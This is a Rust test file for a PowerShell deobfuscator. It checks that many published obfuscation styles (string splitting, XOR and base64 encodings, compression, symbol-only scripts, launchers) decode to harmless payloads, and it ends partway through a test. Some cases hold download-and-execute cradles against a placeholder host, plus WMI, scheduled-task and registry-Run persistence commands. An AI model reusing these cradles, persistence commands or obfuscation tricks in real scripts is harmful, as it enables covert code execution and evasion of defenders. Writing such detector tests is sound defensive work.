@@ -1,0 +1,528 @@
+//! Forms of PowerShell that hide what they do, each opened: by what tables, loops, methods and objects they use, and in
+//! the styles that obfuscators publish (tokens, strings, encodings, compression, launchers). All payloads are ours and
+//! harmless.
+
+#![allow(clippy::unwrap_used, reason = "helpers of tests")]
+
+use std::io::Write as _;
+
+use base64::Engine as _;
+use deminer_deobfuscate::{Decoded, IndicatorKind, Language, Limits, decode};
+
+const HELLO: &str = "Write-Output 'hello'";
+const CRADLE: &str = "IEX (New-Object Net.WebClient).DownloadString('http://a.example/x')";
+const URL: &str = "http://a.example/x";
+
+fn powershell(text: &str) -> Decoded {
+    decode(text, Some(Language::PowerShell), &Limits::default())
+}
+
+fn base64(bytes: &[u8]) -> String {
+    base64::engine::general_purpose::STANDARD.encode(bytes)
+}
+
+fn wide(text: &str) -> String {
+    base64(&text.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<_>>())
+}
+
+fn quoted(text: &str) -> String {
+    text.replace('\'', "''")
+}
+
+fn codes(text: &str, separator: &str, code: impl Fn(u8) -> String) -> String {
+    text.bytes().map(code).collect::<Vec<_>>().join(separator)
+}
+
+fn deflated(text: &str) -> String {
+    let mut encoder = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::best());
+    encoder.write_all(text.as_bytes()).unwrap();
+    base64(&encoder.finish().unwrap())
+}
+
+fn gzipped(text: &str) -> String {
+    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
+    encoder.write_all(text.as_bytes()).unwrap();
+    base64(&encoder.finish().unwrap())
+}
+
+/// Each script, and what has to be in a layer that comes out of it or in an indicator.
+#[track_caller]
+fn all_open(cases: &[(&str, String)]) {
+    let mut closed = Vec::new();
+    for (wanted, script) in cases {
+        let decoded = powershell(script);
+        let layers = decoded.layers.iter().skip(1).map(|layer| layer.text.as_str());
+        let mut texts = layers.chain(decoded.indicators.iter().map(|found| found.value.as_str()));
+        if !texts.any(|text| text.contains(wanted)) {
+            let layers: Vec<_> = decoded.layers.iter().skip(1).map(|l| (l.how, l.text.as_str())).collect();
+            closed.push(format!("{script}\n   {layers:?} {:?}\n", decoded.problems));
+        }
+    }
+    assert!(closed.is_empty(), "{} stay closed:\n{}", closed.len(), closed.concat());
+}
+
+fn one(wanted: &'static str, scripts: &[&str]) -> Vec<(&'static str, String)> {
+    scripts.iter().map(|script| (wanted, (*script).to_owned())).collect()
+}
+
+#[test]
+fn hash_tables() {
+    all_open(&one(
+        "echo opened",
+        &[
+            "$h=@{a='echo ';b='opened'};iex ($h.a+$h['b'])",
+            "$h=@{'a'='echo '\n'b'='opened'\n};iex ($h['A']+$h.B)",
+            "$h=[ordered]@{z='echo ';y='op';x='ened'};iex ($h.Values -join '')",
+            "$h=@{};$h.a='echo ';$h['b']='ope';$h.b+='ned';iex \"$($h.a)$($h.b)\"",
+            "$h=@{};$h.Add('a','echo opened');iex $h.a",
+            "$h=@{a=@{b='echo opened'}};iex $h.a.b",
+            "$h=@{a=@{}};$h.a.b='echo ';$h['a']['b']+='opened';iex $h.a.b",
+            "$h=@{1='echo ';2='opened'};iex ($h[1]+$h[2])",
+            "$h=@{b='opened';a='echo '};iex (($h.GetEnumerator()|sort Name|%{$_.Value}) -join '')",
+            "$h=@{b='opened';a='echo '};iex (-join($h.Keys|sort|%{$h[$_]}))",
+            "$o=New-Object PSObject -Property @{c='echo opened'};iex $o.c",
+            "$o=[pscustomobject]@{c='echo opened'};iex $o.c",
+            "$d=New-Object 'System.Collections.Generic.Dictionary[string,string]';$d.Add('k','echo opened');iex $d['k']",
+            "$m=@{'q'='e';'w'='c';'r'='h';'t'='o';'_'=' ';'y'='p';'u'='n';'i'='d'};$s='';foreach($c in 'qwrt_tyquqi'.ToCharArray()){$s+=$m[[string]$c]};iex $s",
+            "$h=@{f={param($x) $x.Replace('#','')}};iex ($h.f.Invoke('ec#ho op#ened'))",
+            "function f($a,$b='opened'){iex ($a+$b)};$p=@{a='echo '};f @p",
+            "function f{param([Parameter(Mandatory=$true)][string]$a,$b)iex ($a+$b)};$p='echo ','opened';f @p",
+            "$h=@{n='iex'};&$h.n 'echo opened'",
+            "if(@{a=1}.ContainsKey('A')){iex ('echo '+'opened')}",
+        ],
+    ));
+}
+
+#[test]
+fn commands_in_tables_are_layers() {
+    let encoded = wide(CRADLE);
+    let consumer = |arguments: &str| {
+        format!(
+            "$x='{encoded}';Set-WmiInstance -Namespace root\\subscription -Class CommandLineEventConsumer -Arguments {arguments}"
+        )
+    };
+    let mut cases = Vec::new();
+    for script in [
+        consumer("@{Name='a';CommandLineTemplate=\"powershell -e $x\"}"),
+        consumer("@{Name='a';CommandLineTemplate='powershell -e '+$x}"),
+        format!("$x='{encoded}';$a=@{{CommandLineTemplate=\"powershell.exe -NoP -e $x\"}};New-CimInstance -ClassName CommandLineEventConsumer -Property $a"),
+        format!("$x='{encoded}';$c.CommandLineTemplate='powershell -e '+$x;$c.Put()"),
+        format!("$x='{encoded}';$p=@{{FilePath='powershell';ArgumentList=\"-e $x\"}};Start-Process @p"),
+        format!("$x='{encoded}';$a=New-ScheduledTaskAction -Execute 'powershell.exe' -Argument \"-w hidden -e $x\""),
+        format!("$x='{encoded}';$p=@{{Execute='powershell.exe';Argument=\"-e $x\"}};New-ScheduledTaskAction @p"),
+        format!("$x='{encoded}';([wmiclass]'Win32_Process').Create(\"powershell -e $x\")"),
+        format!("$x='{encoded}';Set-ItemProperty HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run a \"powershell -e $x\""),
+        "Set-WmiInstance -Class ActiveScriptEventConsumer -Arguments @{Name='a';ScriptingEngine='VBScript';ScriptText='CreateObject(\"WScript.Shell\").Run \"http\" & Chr(58) & \"//a.example/\" & \"x\"'}".to_owned(),
+        "Set-WmiInstance -Class CommandLineEventConsumer -Arguments @{CommandLineTemplate='cmd /c set a=http:&&set b=//a.example/x&&call mshta %a%%b%'}".to_owned(),
+    ] {
+        cases.push((URL, script));
+    }
+    all_open(&cases);
+}
+
+#[test]
+fn addresses_that_are_put_together() {
+    all_open(&one(
+        URL,
+        &[
+            "$t='a.example'; $w.DownloadString(\"http://$t/x\")",
+            "$t='a.example'; $w.DownloadString('http://'+$t+'/x')",
+            "$t='a.example'; $u='http://{0}/{1}' -f $t,'x'; $w.DownloadString($u)",
+            "foreach($u in 'b','a'){ $w.DownloadString(\"http://$u.example/x\") }",
+            "foreach($t in @('b.example','a.example')){ $w.DownloadString('http://'+$t+'/x') }",
+            "'b','a' | % { iwr \"http://$_.example/x\" -UseBasicParsing }",
+            "$c=@{host='a.example';path='x'}; iwr \"http://$($c.host)/$($c.path)\"",
+            "$p=@{Uri='http://'+'a.example'+'/x'}; Invoke-WebRequest @p",
+            "$t='a.example';for($i=0;$i -lt 2;$i++){ $u=\"http://$t/x$i\" }",
+            "$u=[string]::Join('/',@('http:','','a.example','x')); iwr $u",
+        ],
+    ));
+    let decoded = powershell("$t='a.example'; $w.DownloadString(\"http://$t/x\")");
+    assert!(decoded.indicators.iter().any(|found| found.kind == IndicatorKind::Url && found.value == URL));
+    assert_eq!(decoded.layers.len(), 1, "nothing is hidden by it");
+    let pool = powershell("$p='pool.example.com:3333';$a=\"-o $p -u x -k\";start miner.exe $a");
+    assert!(
+        pool.indicators.iter().any(|found| found.value.contains("pool.example.com:3333")),
+        "{:?}",
+        pool.indicators
+    );
+}
+
+#[test]
+fn back_ticks_in_strings() {
+    for (script, text) in [
+        ("iex \"ec`ho one`ttwo\"", "echo one\ttwo"),
+        ("iex \"ec`ho `\"one`\" `$x\"", "echo \"one\" $x"),
+        ("iex \"echo one`r`ntwo`0`a`b`f`v\"", "echo one\r\ntwo\0\u{7}\u{8}\u{c}\u{b}"),
+        ("iex \"echo `u{6f}ne `u{1F600}\"", "echo one 😀"),
+        ("iex \"echo on`e\"", "echo one"),
+        ("iex \"echo o`\nne\"", "echo one"),
+        ("iex @\"\necho o`h `\"\n\"@", "echo oh \""),
+    ] {
+        let decoded = powershell(script);
+        assert!(decoded.layers.iter().any(|layer| layer.text == text), "{script}: {:?}", decoded.layers);
+    }
+    let cradle = powershell("(New-Object Net.WebClient).DownloadString(\"htt`p://a.exam`ple/`x\")");
+    assert!(cradle.indicators.iter().any(|found| found.value == URL), "{:?}", cradle.indicators);
+    assert!(cradle.traits.iter().any(|hit| hit.id == "obfuscated"));
+    let plain = powershell("\"`tone`r`n`$two `'three`' 5`% `#\"");
+    assert!(plain.traits.is_empty(), "{:?}", plain.traits);
+}
+
+#[test]
+fn loops_and_conditions() {
+    let xored = codes("echo opened", ",", |b| (b ^ 0x35).to_string());
+    let hex = codes("echo opened", "", |b| format!("{b:02x}"));
+    let mut cases = one(
+        "echo opened",
+        &[
+            "$a='echo op','ened';$i=0;$s='';do{$s+=$a[$i];$i++}while($i -lt $a.Count);iex $s",
+            "$a='echo op','ened';$i=0;$s='';while($i -lt 2){$s+=$a[$i++]};iex $s",
+            "$a='echo op','ened';$i=0;$s='';while($true){$s+=$a[$i];$i++;if($i -ge 2){break}};iex $s",
+            "$a='echo op','ened';$s='';for($i=0;;$i++){if($i -eq 2){break};$s+=$a[$i]};iex $s",
+            "$a='echo op','ened';$s='';for($i=0;($i -lt 9) -and ($i -lt $a.Length);$i+=1){$s+=$a[$i]};iex $s",
+            "$a='ened','echo op';$s='';for($i=1,$j=0;$i -ge 0;$i--,$j++){$s+=$a[$i]};for($i=1;$i -ge 0;--$i){$t+=$a[$i]};iex $t",
+            "$x=switch(2){1{'no'} 2{'echo opened'} default{'none'}};iex $x",
+            "switch('b'){'a'{$c='no'} 'B'{$c='echo '+'opened'}};iex $c",
+            "$s='';switch(1..3){1{$s+='echo '} {$_ -eq 2}{$s+='ope'} default{$s+='ned'}};iex $s",
+            "switch -wildcard ('power'){'p*'{iex ('echo '+'opened')}}",
+            "switch -regex ('abc'){'^x'{'no'} 'b'{iex ('echo '+'opened')}}",
+            ":out foreach($i in 1..3){foreach($j in 1..3){if($j -eq 2){break out};$s='echo '+'opened'}};iex $s",
+            "$k='echo ','opened';$i=0;iex ($k[$i++%2]+$k[$i++%2])",
+            "$s='';0..10|%{if($_ -in 1,2){$s+=('echo op','ened')[$_-1]}};iex $s",
+            "if('abc' -match 'b(.)'){iex (\"echo opened$($matches[1])\".TrimEnd('c'))}",
+            "$s='xopenedechox'.Trim('x');iex ($s.Substring(6)+' '+$s.Substring(0,6))",
+            "$i=5;$i-=3;$i*=2;$i/=2;iex (('no','no','echo opened')[$i])",
+            "try{throw 'x'}catch{}finally{iex ('echo '+'opened')}",
+            "$a,$b='echo ','opened';iex ($a+$b)",
+            "$b=[byte[]](101,99,104,111,32);$b+=[byte[]](111,112,101,110,101,100);iex ([Text.Encoding]::ASCII.GetString($b))",
+        ],
+    );
+    for script in [
+        format!(
+            "$d=@({xored});$i=0;$s='';do{{$s+=[char]($d[$i] -bxor 53);$i++}}until($i -ge $d.Length);iex $s"
+        ),
+        format!("$h='{hex}';iex (-join(0..($h.Length/2-1)|%{{[char][int](\"0x\"+$h.Substring($_*2,2))}}))"),
+        format!(
+            "$h='{hex}0';iex (-join(0..($h.Length/2-1.6)|%{{[char][convert]::ToInt32($h.Substring($_*2,2),16)}}))"
+        ),
+        format!("$k=1,4;$d=@({});$i=0;$s='';foreach($c in $d){{$s+=[char]($c -bxor $k[$i++%2])}};iex $s", {
+            let mut at = 0;
+            codes("echo opened", ",", |b| b.to_string())
+                .split(',')
+                .map(|code| {
+                    at += 1;
+                    (code.parse::<u8>().unwrap() ^ [1, 4][(at - 1) % 2]).to_string()
+                })
+                .collect::<Vec<_>>()
+                .join(",")
+        }),
+    ] {
+        cases.push(("echo opened", script));
+    }
+    all_open(&cases);
+}
+
+#[test]
+fn methods_types_and_objects() {
+    let mut cases = one(
+        "echo opened",
+        &[
+            "iex 'echo ned'.Insert(5,'ope')",
+            "iex 'echo XXopened'.Remove(5,2)",
+            "iex 'echo openedXX'.Remove(11)",
+            "iex ('###echo opened'.TrimStart('#'))",
+            "iex ('opened'.PadLeft(7).Insert(0,'echo'))",
+            "$b=New-Object Text.StringBuilder;[void]$b.Append('echo ');$b.Append('ope').Append('ned')|Out-Null;iex $b.ToString()",
+            "$b=[System.Text.StringBuilder]::new('ned');$null=$b.Insert(0,'echo ope');iex \"$b\"",
+            "$b=New-Object System.Text.StringBuilder;foreach($c in 101,99,104,111,32){[void]$b.Append([char]$c)};[void]$b.AppendFormat('{0}ned','ope');iex $b.ToString()",
+            "$b=[Text.StringBuilder]'echo closed';[void]$b.Replace('clos','open');iex $b.ToString()",
+            "$l=New-Object System.Collections.ArrayList;[void]$l.Add('echo ');$l.Add('opened')>$null;iex ($l -join '')",
+            "$l=New-Object 'System.Collections.Generic.List[string]';$l.Add('ned');$l.Insert(0,'echo ope');iex ($l.ToArray() -join '')",
+            "$l=[System.Collections.Generic.List[char]]::new();$l.AddRange([char[]]'denepo ohce');$l.Reverse();iex (-join $l)",
+            "$a=[char[]]'denepo ohce';[Array]::Reverse($a);iex ($a -join '')",
+            "$a=[byte[]](100,101,110,101,112,111,32,111,104,99,101);[array]::Reverse($a);iex ([Text.Encoding]::UTF8.GetString($a))",
+            "iex (-join('opened:2','echo :1'|sort{[int]$_.Split(':')[1]}|%{$_.Split(':')[0]}))",
+            "iex ((3,1,2|sort -Descending|select -First 2|%{@{3='echo ';2='opened'}[$_]}) -join '')",
+            "&('i'+'ex') {echo opened}.ToString()",
+            "iex \"$({echo opened})\"",
+            "$f={echo $args[0]};iex {echo opened}.ToString().Trim()",
+            "[scriptblock]::Create('echo '+'opened').Invoke()",
+            "&([scriptblock]::Create(('echo {0}' -f 'opened')))",
+            "iex ('echo opened'-as[string])",
+            "iex ((101,99,104,111,32|%{$_ -as [char]}) -join '' -replace '$','opened')",
+            "iex ([regex]::Replace('6563686f206f70656e6564','..',{[char][convert]::ToInt32($args[0].Value,16)}))",
+            "iex ([regex]::Replace('ech0 0pened','0',{param($m)'o'}))",
+            "$x=[BitConverter]::ToString([byte[]](1,171));iex ('echo openedC'+$x).Replace('C01-AB','')",
+            "Set-Variable a 'echo ';sv b 'opened';iex ((Get-Variable a -ValueOnly)+(gv b).Value)",
+            "Set-Item variable:q1 'echo opened';iex (Get-ChildItem variable:q1).Value",
+            "$env:zz='echo opened';iex $env:zz",
+            "function p{'echo opened'};iex (& ${function:p})",
+            "iex ('echo '+$([char[]](111,112,101,110,101,100)-join''))",
+            "iex ('ec','ho',' ','opened' -join '')",
+            "'echo opened'|&($env:ComSpec[4,24,25]-join'')",
+            "'echo opened'|&((gv '*mdr*').Name[3,11,2]-join'')",
+            "&(([string]''.IndexOf)[0,7,8]-join'') 'echo opened'",
+            "&(''.LastIndexOf.ToString()[0,11,12]-join'') 'echo opened'",
+            "& $ExecutionContext.InvokeCommand.GetCommand('iex','All') 'echo opened'",
+            "& $ExecutionContext.InvokeCommand.GetCmdlet('Invoke-Expression') 'echo opened'",
+            "& (Get-Alias iex) 'echo opened'",
+            "$s=ConvertTo-SecureString 'echo opened' -AsPlainText -Force;iex ([Runtime.InteropServices.Marshal]::PtrToStringAuto([Runtime.InteropServices.Marshal]::SecureStringToBSTR($s)))",
+            "iex ('a1echo1opened'.Split('1',[StringSplitOptions]::RemoveEmptyEntries)[1,2] -join ' ')",
+            "$a=@(0)*2;$a[0]='echo ';$a[1]='opened';iex (-join $a)",
+            "${;}=+$();${=}=${;};${+}=++${;};iex \"echo opene$([char](99+${+}))\"",
+        ],
+    );
+    for script in [
+        format!(
+            "iex ([Text.Encoding]::ASCII.GetString([Type]('Con'+'vert')::FromBase64String('{}')))",
+            base64(b"echo opened")
+        ),
+        format!(
+            "iex ([Text.Encoding]::ASCII.GetString(([type]'Convert')::FromBase64String('{}')))",
+            base64(b"echo opened")
+        ),
+        format!(
+            "sEt-iTEM VariABLE:7gDW ( [TYpe](\"{{1}}{{0}}\" -F 'vert','con') ); iex ([Text.Encoding]::UTF8.GetString($7gDW::(\"From\"+\"Base64String\")('{}')))",
+            base64(b"echo opened")
+        ),
+        format!(
+            "$m=New-Object IO.MemoryStream;$d=[Convert]::FromBase64String('{}');$m.Write($d,0,$d.Length);[void]$m.Seek(0,0);iex (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($m,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()",
+            gzipped("echo opened")
+        ),
+    ] {
+        cases.push(("echo opened", script));
+    }
+    all_open(&cases);
+}
+
+/// In the styles of published obfuscators: strings in pieces, out of order, backwards.
+#[test]
+fn styles_of_strings() {
+    let hello = quoted(HELLO);
+    let backwards: String = HELLO.chars().rev().collect();
+    let mut cases: Vec<(&'static str, String)> = Vec::new();
+    let mut hello_by = |script: String| cases.push((HELLO, script));
+    hello_by(format!(
+        "( ('{}'+'{}'+'{}') ) | .( $PSHome[4]+$PSHOME[30]+'x')",
+        &hello[..7],
+        &hello[7..15],
+        &hello[15..]
+    ));
+    hello_by(format!(
+        "IEX ((\"{{2}}{{0}}{{1}}\" -f '{}','{}','{}'))",
+        &hello[7..15],
+        &hello[15..],
+        &hello[..7]
+    ));
+    hello_by(format!(
+        "$X9='{}'; [arRAy]::REvErSe(($X9=[CHAr[]]$X9)); iEx ($X9 -JoIn '')",
+        quoted(&backwards)
+    ));
+    hello_by(format!("$2eI = \"{backwards}\" ; IEX ( $2ei[- 1..-( $2EI.LengTh )]-Join '') "));
+    hello_by(format!(
+        "( [RegeX]::mAtCHEs(\"{backwards}\" , '.' ,'riGhTTOleFt' )|%{{ $_.vALUE}} )-JoIn ''|& ( $sHeLLID[1]+$sHElliD[13]+'x')"
+    ));
+    hello_by(format!("(('{}').rePLACE('{}',[STRing][cHAr]39)) | iex", HELLO.replace('\'', "Z9q"), "Z9q"));
+    hello_by(format!("(('{}') -cREPLacE([ChaR]81+[ChaR]113),[ChaR]39)|IEX", HELLO.replace('\'', "Qq")));
+    hello_by(format!(
+        "Set-Variable ('o'+'fs') '' ; iEX ( '{}' -SPLIt '~' -jOIN '' )",
+        quoted(&HELLO.replace("ou", "o~u").replace("el", "e~l"))
+    ));
+    all_open(&cases);
+}
+
+/// Texts as numbers of characters.
+#[test]
+fn styles_of_encodings() {
+    let mut cases: Vec<(&'static str, String)> = Vec::new();
+    let mut hello_by = |script: String| cases.push((HELLO, script));
+    let separators = ['~', 'z', '%', 'G'];
+    let mixed = |code: &dyn Fn(u8) -> String| {
+        let all = HELLO.bytes().enumerate().map(|(at, byte)| format!("{}{}", code(byte), separators[at % 4]));
+        all.collect::<String>().trim_end_matches(separators).to_owned()
+    };
+    hello_by(format!(
+        "-JoIN('{}'-spLIT'~'-SPlIt 'z' -SPLit '%'-split'G' | foReacH-OBJecT {{ ([CHAr] [INt]$_)}} ) | IeX",
+        mixed(&|b| b.to_string())
+    ));
+    hello_by(format!(
+        "[StriNg]::JOiN('',('{}'.SPLIT('~z%G')|%{{([CONVerT]::tOInT16(($_.TOSTRiNG()),16) -as [cHaR])}})) |.( $env:COMSPeC[4,24,25]-JoIN'')",
+        mixed(&|b| format!("{b:x}")).replace(['z', 'G'], "~")
+    ));
+    hello_by(format!(
+        "( '{}'-split'!'|%{{ ([convert]::toint16( ([string]$_ ) ,8)-AS[char]) }})-join'' | iex",
+        codes(HELLO, "!", |b| format!("{b:o}"))
+    ));
+    hello_by(format!(
+        "[string]::join( '' ,( ({}) |%{{ ( [char][int]$_) }}))|& ((GET-VaRIAble '*mdr*').NamE[3,11,2]-jOiN'')",
+        codes(HELLO, " , ", |b| b.to_string())
+    ));
+    hello_by(format!(
+        "( '{}'.SPlIt('b') | fOREacH {{ [CHAR]( [CoNverT]::ToInT32( $_ ,2 ) ) }} )-joIN '' | InVOKe-exPReSsIoN",
+        codes(HELLO, "b", |b| format!("{b:b}"))
+    ));
+    hello_by(format!(
+        "(({}) |%{{ [ChaR]($_ -BxOR \"0x4B\" )}})-JoiN'' |iex",
+        codes(HELLO, ",", |b| (b ^ 0x4b).to_string())
+    ));
+    hello_by(format!(
+        "$k='ab';$i=0;( '{}' -split '-' |%{{ [char]([int]$_ -bxor [int]$k[$i++ % $k.Length]) }} ) -join '' | iex",
+        HELLO
+            .bytes()
+            .enumerate()
+            .map(|(at, b)| (b ^ b"ab"[at % 2]).to_string())
+            .collect::<Vec<_>>()
+            .join("-")
+    ));
+    hello_by(format!(
+        "IEX ($( SET-ITEM 'VaRIaBle:oFs' '')+[stRiNG]( '{}'-SPlIT ',' |%{{([char][int]$_)}})+$(sV 'OFS' ' ') )",
+        codes(HELLO, ",", |b| b.to_string())
+    ));
+    // White space as digits: so many blanks, then a tab.
+    let digits: Vec<String> = HELLO
+        .bytes()
+        .map(|b| {
+            b.to_string()
+                .bytes()
+                .map(|digit| " ".repeat(usize::from(digit - b'0') + 1))
+                .collect::<Vec<_>>()
+                .join("\t")
+        })
+        .collect();
+    hello_by(format!(
+        "$w='{}';(-join($w.Split(\"`n\")|%{{$n='';$_.Split(\"`t\")|%{{$n+=$_.Length-1}};[char][int]$n}}))|iex",
+        digits.join("\n")
+    ));
+    all_open(&cases);
+}
+
+/// Scripts of nothing but signs.
+#[test]
+fn styles_of_signs() {
+    let mut cases: Vec<(&'static str, String)> = Vec::new();
+    let mut hello_by = |script: String| cases.push((HELLO, script));
+    let signs = {
+        let mut digits = vec!["${=}", "${+}", "${@}", "${.}", "${[}", "${]}", "${(}", "${)}", "${&}", "${|}"];
+        digits.truncate(10);
+        let code = |b: u8| b.to_string().bytes().map(|d| digits[usize::from(d - b'0')]).collect::<String>();
+        codes(HELLO, "+", |b| format!("${{\"}}{}", code(b)))
+    };
+    hello_by(format!(
+        "${{;}}=+$();${{=}}=${{;}};${{+}}=++${{;}};${{@}}=++${{;}};${{.}}=++${{;}};${{[}}=++${{;}};${{]}}=++${{;}};${{(}}=++${{;}};${{)}}=++${{;}};${{&}}=++${{;}};${{|}}=++${{;}};\
+         ${{\"}}=\"[\"+\"$(@{{}})\"[${{)}}]+\"$(@{{}})\"[\"${{+}}${{|}}\"]+\"$(@{{}})\"[\"${{@}}${{=}}\"]+\"$?\"[${{+}}]+\"]\";\
+         ${{;}}=\"\".(\"$(@{{}})\"[\"${{+}}${{[}}\"]+\"$(@{{}})\"[\"${{+}}${{(}}\"]+\"$(@{{}})\"[${{=}}]+\"$(@{{}})\"[${{[}}]+\"$?\"[${{+}}]+\"$(@{{}})\"[${{.}}]);\
+         ${{;}}=\"$(@{{}})\"[\"${{+}}${{[}}\"]+\"$(@{{}})\"[${{[}}]+\"${{;}}\"[\"${{@}}${{)}}\"];\"{signs}|${{;}}\"|&${{;}}"
+    ));
+    all_open(&cases);
+}
+
+/// Streams, and ways to start a script: other programs, variables, pipes.
+#[test]
+fn styles_of_streams_and_launchers() {
+    let hello = quoted(HELLO);
+    let mut cases: Vec<(&'static str, String)> = Vec::new();
+    let mut hello_by = |script: String| cases.push((HELLO, script));
+    hello_by(format!(
+        "iEx( nEW-ObJECt sYStem.io.COMpREsSIoN.DeFlaTeStREAm( [SYSTEM.io.MeMORySTReam] [CONVerT]::fROMbase64STRinG('{}'),[Io.COMPresSioN.coMpREsSIoNmOde]::DECOMPReSs )|foREACH-oBJECT{{nEW-ObJECt io.STReaMREAder( $_,[teXT.ENcoDING]::aScII )}} |foREACH-oBJECT {{ $_.READToEnd()}})",
+        deflated(HELLO)
+    ));
+    hello_by(format!(
+        "&( $VErbosEPrEFErencE.toString()[1,3]+'X'-JoIn'')( (nEw-ObjeCt io.StReamREaDer(( nEw-ObjeCt SYSTEm.iO.cOmprEsSioN.GZiPStream([Io.MEmorYStreAm] [CoNveRt]::FroMBAse64stRiNG( '{}' ),[iO.cOmprEsSioN.COmpreSSioNMODE]::deCOmPress)) ,[TEXt.enCODinG]::AsCii) ).reADTOenD())",
+        gzipped(HELLO)
+    ));
+    hello_by(format!("powershell.exe \"-NoP\" -c \"{HELLO}\""));
+    hello_by(format!("cmd.exe /c \"echo {HELLO}|powershell -\""));
+    hello_by(format!("cmd /c \"set x=1&&powershell -e {}\"", wide(HELLO)));
+    hello_by(format!("$env:qq=\"{HELLO}\"; IEX ( ls env:qq ).Value"));
+    hello_by(format!("$env:qq=\"{HELLO}\"; ( Get-Item env:qq ).Value | powershell -noni -"));
+    hello_by(format!("'{hello}' | pOwErsHeLl -NoPr -"));
+    hello_by(format!("wmic process call create \"powershell -enc {}\"", wide(HELLO)));
+    hello_by(format!(
+        "rundll32.exe SHELL32.DLL,ShellExec_RunDLL \"powershell.exe\" \"-enc {}\"",
+        wide(HELLO)
+    ));
+    hello_by(format!("& (\"{{1}}{{0}}\" -f 'hell','powers') (\"{{1}}{{0}}\"-f 'c','-e') {}", wide(HELLO)));
+    hello_by(format!(
+        "$s=[PowerShell]::Create().AddScript('{}'+'{}'); $s.Invoke()",
+        &hello[..9],
+        &hello[9..]
+    ));
+    hello_by(format!(
+        "$ExecutionContext.InvokeCommand.NewScriptBlock('{}'+'{}').Invoke()",
+        &hello[..9],
+        &hello[9..]
+    ));
+    hello_by(format!(
+        "Start-Job -ScriptBlock ([scriptblock]::Create('{}'+'{}'))|Receive-Job -Wait",
+        &hello[..9],
+        &hello[9..]
+    ));
+    hello_by(format!(
+        "Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList ('powershell -enc '+'{}')",
+        wide(HELLO)
+    ));
+    all_open(&cases);
+}
+
+/// Names of commands, members, types and arguments.
+#[test]
+fn styles_of_names() {
+    let mut cases: Vec<(&'static str, String)> = Vec::new();
+    cases.extend(one(URL, &[
+        "&(\"{1}{0}\" -f 'EX','I') (&(\"{0}{1}{2}\" -f'New-O','bj','ect') (\"{2}{0}{1}\" -f't.WebCl','ient','Ne')).(\"{1}{0}\"-f'String','Download').Invoke((\"{1}{0}{2}\" -f'//a.exam','http:','ple/x'))",
+        "I`E`X (N`ew-Ob`ject Net.Web`Cl`ient).\"D`o`wnloadStr`ing\"(\"ht\"+'tp:/'+'/a.exam'+\"ple/x\")",
+        ".(gcm *w-O*) net.webclient|%{$_.downloadstring(('http:'+'//a.exam'+'ple/x'))}|.(gcm i*e-ex*)",
+        "$w=New-Object (\"{0}.{1}\"-f'Net','WebClient');$u=[char[]](104,116,116,112)-join'';$w.DownloadFile(\"${u}://a.example/x\",'a')",
+        "${W`c}=[Net.WebClient]::new();${W`c}.\"DownLOADsTRing\"(\"http://{0}/x\"-f('elpmaxe.a'[-1..-9]-join''))",
+        "iwr ([Text.Encoding]::ASCII.GetString((104,116,116,112,58,47,47,97,46,101,120,97,109,112,108,101,47,120)))",
+        "(New-Object Net.WebClient).DownloadString(([uri]::UnescapeDataString('http%3a%2f%2fa.example%2fx')))",
+        "$x=('h{0}{0}p://a.e{1}ample/{1}'-f't','x');IEX(New-Object Net.WebClient).DownloadString($x)",
+        "$h='687474703a2f2f612e6578616d706c652f78';$u='';for($i=0;$i -lt $h.Length;$i+=2){$u+=[char][byte]::Parse($h.Substring($i,2),[Globalization.NumberStyles]::HexNumber)};curl $u",
+        "function Get-It([string]$s){$o='';foreach($p in $s -split '(..)' -ne ''){$o+=[char]([convert]::ToInt32($p,16))};return $o};iwr (Get-It '687474703a2f2f612e6578616d706c652f78')",
+        "filter d{[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($_))};$u='aHR0cDovL2EuZXhhbXBsZS94'|d;iwr $u",
+    ]));
+    cases.push((CRADLE, format!("powershell -nop -w 1 -c \"IEX([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('{}')))\"", wide(CRADLE))));
+    all_open(&cases);
+}
+
+/// What `ConvertFrom-SecureString -Key` makes of a text, with the key in the script. Made with openssl, not by us.
+#[test]
+fn protected_texts() {
+    let header = "76492d1116743f0423413b16050a5345MgB8AFoARwBWAG0AWgAyAGgAcABhAG0AdABzAGIAVwA1AHYAYwBIAEYAeQBjAHcAPQA9AHwA";
+    let mut cases = Vec::new();
+    for (bits, data) in [
+        (
+            16,
+            "OAA5ADkAMwBjADYAYwBmADcAZABiADAAYgAxADIAMQAwAGIAYQBiAGUAMAA0AGMAYQBkAGEAZQBmAGQAYgBmADgAYwA0ADgAYwA5AGQANAAwADIAMQAzADUANABiADMAMwBhAGQAMgAzADIAMgBmAGMANQA3AGQAMwA3AGEANgBjADEANgA3AGUAOAAwADEANwAxADcANgBiAGQANgAxADMAMwA0ADAAMAA1AGMANQA3ADkAMABjAGUANAA1ADUA",
+        ),
+        (
+            24,
+            "YgA0ADYAMAAzADEAYQA0ADkANQAyADIAZABhADMAOAAyAGQAOABjAGMAZQA1AGUAMgBiAGUAZgA3ADUAMAA0ADMAMABiADMANgA4ADUANwBjAGUAYgA0ADgANgAwADIAYgBlADQAYgA5ADUANAA3AGEAOABkADEAMwBkAGYAZgAyAGIAOAA5ADkANwBhADMAMABkAGMAMwBiADQAOQAyADkAMwBjAGUANwAyADQAMgBmADIAYwA0AGMAZQA1ADIA",
+        ),
+        (
+            32,
+            "NwAxAGEAOAAxAGYANwBhADQAZAAzAGEAYgA1ADYAMQA1AGIAMABmAGMANwBkAGEAMwA4ADkAYQAyADIAYQBlAGIAZgA2ADQANAA1AGUAYQBmADAAMQA2ADQANgAwAGQANQAxAGIAMABjAGUAOQAxADgAMQAyAGEANwBlADEAOAA4ADkAOQBlADYAYQBiAGQAMwA3AGQAMwA5AGIAYQA5AGYANABlADQAMAA3ADQAMwBkADcANwBlAGMAYwAxADkA",
+        ),
+    ] {
+        let text = format!("{header}{data}");
+        cases.push((HELLO, format!("IEX ([Runtime.InteropServices.Marshal]::PtrToStringAuto([Runtime.InteropServices.Marshal]::SecureStringToBSTR($('{text}'|ConvertTo-SecureString -Key (1..{bits})))))")));
